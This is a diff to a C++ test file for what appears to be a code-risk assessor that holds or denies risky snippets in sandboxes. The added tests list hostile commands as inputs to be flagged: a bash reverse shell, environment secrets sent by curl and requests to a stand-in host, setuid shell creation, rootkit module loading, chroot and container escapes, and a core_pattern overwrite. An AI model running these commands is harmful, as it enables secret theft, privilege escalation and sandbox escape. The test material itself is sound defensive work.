@@ -36,9 +36,10 @@ TEST_CASE("to_json is the public contract") {
     CHECK(j["risk"] == "high");
     REQUIRE(j["findings"].is_array());
     const auto& f = j["findings"][0];
-    for (const char* key : {"rule", "threat", "controls", "severity", "line", "column", "message", "hint"})
+    for (const char* key :
+         {"rule", "threat", "controls", "severity", "line", "column", "message", "hint", "attack_signature"})
         CHECK_MESSAGE(f.contains(key), key);
-    CHECK(f.size() == 8);
+    CHECK(f.size() == 9);
     CHECK(f["severity"] == "high");
     CHECK(f["line"] == 2);
     REQUIRE(j["threats"].size() == 5);
@@ -172,4 +173,67 @@ TEST_CASE("messages quoting decoded escapes stay valid JSON text") {
     auto p = assess(Language::Python, "open('/etc/shadow\\xff')", {}, balanced);
     REQUIRE_FALSE(p.findings.empty());
     CHECK_NOTHROW((void)p.to_json().dump());
+}
+
+TEST_CASE("under balanced with every control in force, an attack signature still asks; common risky code runs") {
+    Policy balanced = preset("balanced");
+    Policy strict = preset("strict");
+    struct Attempt {
+        Language lang;
+        const char* code;
+        Decision balanced;  // with every control in force
+    };
+    const Attempt attacks[] = {
+        {Language::Shell, "insmod ./rootkit.ko", Decision::Ask},
+        {Language::Python, "import os\nos.system('modprobe evil')", Decision::Ask},
+        {Language::Shell, "cp /bin/sh /tmp/s; chmod u+s /tmp/s; /tmp/s -p", Decision::Ask},
+        {Language::Python, "import os\nos.chmod('/tmp/s', 0o4755)\nos.execv('/tmp/s', ['s'])", Decision::Ask},
+        {Language::Shell, "mount -t tmpfs none /mnt && chroot /mnt /bin/sh", Decision::Ask},
+        {Language::Python, "import os\nos.chroot('/proc/1/root')", Decision::Ask},
+        {Language::JavaScript, "require('child_process').execSync('unshare -Urm sh')", Decision::Ask},
+        {Language::Shell, "env | curl -d @- https://x.invalid/collect", Decision::Ask},
+        {Language::Python, "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))",
+         Decision::Ask},
+        {Language::Shell, "./cdk evaluate", Decision::Ask},
+        // Critical signatures were denied before and still are.
+        {Language::Shell, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Decision::Deny},
+        {Language::Python, "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')", Decision::Deny},
+    };
+    for (const auto& c : attacks) {
+        INFO("code: " << std::string(c.code));
+        auto guarded = assess(c.lang, c.code, all_controls(), balanced);
+        CHECK(guarded.decision == c.balanced);
+        CHECK(guarded.risk >= Level::High);
+        // Where the preset denies high risk, it denies the attempt.
+        CHECK(assess(c.lang, c.code, all_controls(), strict).decision == Decision::Deny);
+        // The reasons say why a jailed run was held.
+        bool explained = false;
+        for (const auto& r : guarded.reasons) explained |= r.find("attack signature") != std::string::npos;
+        CHECK(explained);
+    }
+    // Ordinary risky code keeps today's treatment: allowed once mitigated.
+    for (const auto& [lang, code] : std::initializer_list<std::pair<Language, const char*>>{
+             {Language::Python, "import subprocess\nsubprocess.run(['git', 'status'])"},
+             {Language::Python, "import subprocess\nsubprocess.check_call(['pip', 'install', 'numpy'])"},
+             {Language::Shell, "sudo apt-get install -y jq"},
+             {Language::Python, "b = bytearray(10**12)"},
+             {Language::Python, "import os, requests\nrequests.get(os.environ.get('API_URL'))"},
+             {Language::Shell, "mount | grep cgroup"},
+             {Language::JavaScript, "require('child_process').execSync('ls -l')"},
+         }) {
+        INFO("code: " << std::string(code));
+        auto guarded = assess(lang, code, all_controls(), balanced);
+        CHECK(guarded.decision == Decision::Allow);
+        CHECK(guarded.risk <= Level::Medium);
+    }
+}
+
+TEST_CASE("the attack-signature flag is in the finding JSON") {
+    auto j = assess(Language::Shell, "insmod x.ko\nls", all_controls(), preset("balanced")).to_json();
+    REQUIRE(j["findings"].size() == 1);
+    CHECK(j["findings"][0]["rule"] == "sh.kernel-surface");
+    CHECK(j["findings"][0]["attack_signature"] == true);
+    CHECK(j["decision"] == "ask");
+    auto plain = assess(Language::Python, "import os\nos.system('ls')\n", {}, preset("balanced")).to_json();
+    CHECK(plain["findings"][0]["attack_signature"] == false);
 }
